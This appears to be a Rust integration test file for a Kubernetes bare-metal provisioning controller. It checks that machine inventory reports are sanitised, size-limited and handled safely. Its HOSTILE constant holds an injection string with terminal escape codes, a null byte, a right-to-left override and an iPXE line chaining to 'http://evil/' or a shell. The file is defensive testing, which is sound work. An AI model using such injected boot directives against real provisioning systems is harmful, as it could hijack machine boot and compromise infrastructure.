//! What machines say: hostile text, monstrous inventories, nothing at all.

use kube::{ResourceExt, api::ListParams};
use muster_proto::kinds::{Enrolment, HardwareData, UnknownPolicy};
use muster_tests::{
    sim::{
        firmware,
        hand::{Hand, json},
        hardware::{Hardware, disk, mac},
    },
    stage::server_name,
};
use serde_json::json;

use super::{SOON, discovered, disks, lit};

/// Escape sequences, line ends, what labels and iPXE scripts would take for their own, and what turns the text around it.
const HOSTILE: &str = "\u{1b}[31mEvil\u{1b}]0;pwned\u{7}\r\n#!ipxe\nchain http://evil/ || shell\n${net0/mac} a=b,c!=d\0\u{202e}drawkcab";

#[tokio::test(flavor = "multi_thread")]
async fn hostile_strings_are_escaped_in_every_object() {
    let (stage, rack) = lit("id-text", UnknownPolicy::Hold).await;
    let mut server = rack.server(Hardware::number(1));
    server.change(|hardware| {
        let inventory = &mut hardware.inventory;
        let (system, disk, nic) = (
            &mut inventory.system,
            &mut inventory.disks[0],
            &mut inventory.nics[1],
        );
        for text in [
            &mut system.manufacturer,
            &mut system.product,
            &mut system.serial,
            &mut system.board_serial,
            &mut system.sku,
            &mut inventory.hostname,
            &mut inventory.kernel,
            &mut inventory.cpu.arch,
            &mut inventory.cpu.model,
            &mut inventory.firmware.version,
            &mut disk.serial,
            &mut disk.model,
            &mut disk.name,
            &mut nic.name,
            &mut nic.driver,
        ] {
            HOSTILE.clone_into(text);
        }
        inventory.cpu.flags.push(HOSTILE.to_owned());
        inventory.nics[1].addresses.push(HOSTILE.to_owned());
    });
    let host = discovered(&stage, &mut server).await;
    server.change(|hardware| HOSTILE.clone_into(&mut hardware.inventory.disks[1].serial));
    stage
        .hears(&host.name_any(), "HardwareChanged", SOON)
        .await
        .unwrap();

    let mut shown = vec![serde_json::to_value(stage.hosts().await.unwrap()).unwrap()];
    shown.push(serde_json::to_value(stage.servers().await.unwrap()).unwrap());
    let data = stage.api::<HardwareData>().get(&host.name_any()).await.unwrap();
    shown.push(serde_json::to_value(data).unwrap());
    let enrolments = stage.api::<Enrolment>().list(&ListParams::default()).await;
    for mut enrolment in enrolments.unwrap().items {
        // PEM has lines.
        enrolment.spec.certificate.clear();
        shown.push(serde_json::to_value(enrolment).unwrap());
    }
    for told in stage.told().await.unwrap() {
        shown.push(json!([told.name, told.reason, told.note]));
    }
    assert!(
        json!(shown).to_string().contains("[31mEvil"),
        "the text itself is kept"
    );
    for object in &shown {
        assert_no_control(object);
    }
    // A held machine's boot script is made of what it is to do, and of nothing that it said.
    let lease = firmware::lease(rack.clients(), &server.hardware(), SOON)
        .await
        .unwrap();
    let script = firmware::script_text(rack.clients(), &lease).await.unwrap();
    assert!(
        script.contains("\nboot ") && !script.to_lowercase().contains("evil"),
        "{script}"
    );
    for line in stage.controller.log().from(0) {
        assert!(
            !line.text.contains('\u{1b}') && !line.text.contains('\u{202e}'),
            "{:?}",
            line.text
        );
    }
}

fn assert_no_control(value: &serde_json::Value) {
    match value {
        serde_json::Value::String(text) => {
            let bad = |sign: char| sign.is_control() || sign == '\u{202e}';
            assert!(!text.chars().any(bad), "{text:?}");
        }
        serde_json::Value::Array(values) => values.iter().for_each(assert_no_control),
        serde_json::Value::Object(map) => {
            // Who wrote what is the API server's own text.
            let parts = map.iter().filter(|(name, _)| *name != "managedFields");
            parts.for_each(|(_, value)| assert_no_control(value));
        }
        _ => {}
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn monstrous_inventories_are_refused_or_cut_and_the_controller_stays_up() {
    let (mut stage, rack) = lit("id-huge", UnknownPolicy::Hold).await;
    let server = rack.server(Hardware::number(1));
    let config = server.steal_config(SOON).await.unwrap();
    let mut hand = Hand::new(rack.clients(), config).unwrap();
    assert!(
        hand.enrol(Hardware::number(1).identity())
            .await
            .unwrap()
            .status
            .is_success()
    );

    let huge = format!("{{\"hostname\":\"{}\"}}", "x".repeat(100 << 20));
    let huge = hand.call("/v1/inventory", huge).await.unwrap();
    assert_eq!(huge.status.as_u16(), 413);
    assert!(
        huge.problem().unwrap().message.contains("8388608 bytes"),
        "{huge:?}"
    );

    let mut crooked = Hardware::number(1).report();
    let at = crooked.iter().position(|byte| *byte == b'E').unwrap();
    crooked[at] = 0xff;
    let crooked = hand.call("/v1/inventory", crooked).await.unwrap();
    assert_eq!(crooked.status.as_u16(), 400, "{crooked:?}");
    assert!(
        stage.servers().await.unwrap()[&server_name(mac(1, 0))]
            .status
            .clone()
            .unwrap()
            .inventory
            .is_none()
    );

    let mut many = Hardware::number(1);
    many.inventory.disks = (0..5000).map(|at| disk(1, at)).collect();
    let twin = many.inventory.nics[0].clone();
    many.inventory.nics.push(twin);
    let many = hand.call("/v1/inventory", many.report()).await.unwrap();
    assert!(many.status.is_success(), "{many:?}");
    let host = stage
        .host(mac(1, 0), SOON, |host| !disks(host).is_empty())
        .await
        .unwrap();
    assert!(disks(&host).len() <= 1000);
    let servers = stage.servers().await.unwrap();
    let inventory = servers[&server_name(mac(1, 0))]
        .status
        .clone()
        .unwrap()
        .inventory
        .unwrap()
        .unpack();
    let warned = |words: &str| {
        inventory
            .warnings
            .iter()
            .any(|warning| warning.message.contains(words))
    };
    assert!(warned("of 5000 are left out"), "{:?}", inventory.warnings);
    assert!(
        warned("several interfaces have the address"),
        "{:?}",
        inventory.warnings
    );

    // Nothing of it stays: the machine's next report is an ordinary one.
    let plain = hand
        .call("/v1/inventory", Hardware::number(1).report())
        .await
        .unwrap();
    assert!(plain.status.is_success(), "{plain:?}");
    stage
        .host(mac(1, 0), SOON, |host| disks(host).len() == 2)
        .await
        .unwrap();
    assert!(
        hand.call("/v1/log", json(&json!({"lines": []})))
            .await
            .unwrap()
            .status
            .is_success()
    );
    assert!(stage.controller.is_running());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_machine_says_no_more_of_itself_is_gone_from_its_host() {
    let (stage, rack) = lit("id-silent", UnknownPolicy::Hold).await;
    let server = rack.server(Hardware::number(1));
    let config = server.steal_config(SOON).await.unwrap();
    let mut hand = Hand::new(rack.clients(), config).unwrap();
    let reply = hand.enrol(Hardware::number(1).identity()).await.unwrap();
    assert!(reply.status.is_success(), "{reply:?}");
    let plain = hand
        .call("/v1/inventory", Hardware::number(1).report())
        .await
        .unwrap();
    assert!(plain.status.is_success(), "{plain:?}");
    let host = stage
        .host(mac(1, 0), SOON, |host| disks(host).len() == 2)
        .await
        .unwrap();

    let silent = json(&json!({"identity": {"macs": [mac(1, 0)]}}));
    let silent = hand.call("/v1/inventory", silent).await.unwrap();
    assert!(silent.status.is_success(), "{silent:?}");
    let emptied = stage.until("the host is to show no hardware", SOON, async || {
        let hosts = stage.hosts().await?;
        Ok(hosts.iter().all(|host| disks(host).is_empty()).then_some(()))
    });
    emptied.await.unwrap();
    let data = stage.api::<HardwareData>().get(&host.name_any()).await.unwrap();
    let hardware = data.spec.hardware.unwrap().unpack();
    assert!(hardware.system_vendor.is_none() && hardware.storage.is_empty());
    let told = stage.told().await.unwrap();
    assert!(
        told.iter().all(|told| told.reason != "DiscoveryFailed"),
        "{told:#?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn machine_that_says_nothing_of_itself_is_known_by_the_address_that_booted() {
    let (stage, rack) = lit("id-nobody", UnknownPolicy::Hold).await;
    let server = rack.server(Hardware::number(1));
    let config = server.steal_config(SOON).await.unwrap();
    let mut hand = Hand::new(rack.clients(), config).unwrap();
    // The token says which address that was.
    let reply = hand
        .enrol(muster_proto::identity::Identity::default())
        .await
        .unwrap();
    assert!(reply.status.is_success(), "{reply:?}");
    let servers = stage.servers().await.unwrap();
    let names: Vec<_> = servers.keys().cloned().collect();
    assert_eq!(names, [server_name(mac(1, 0))]);
}
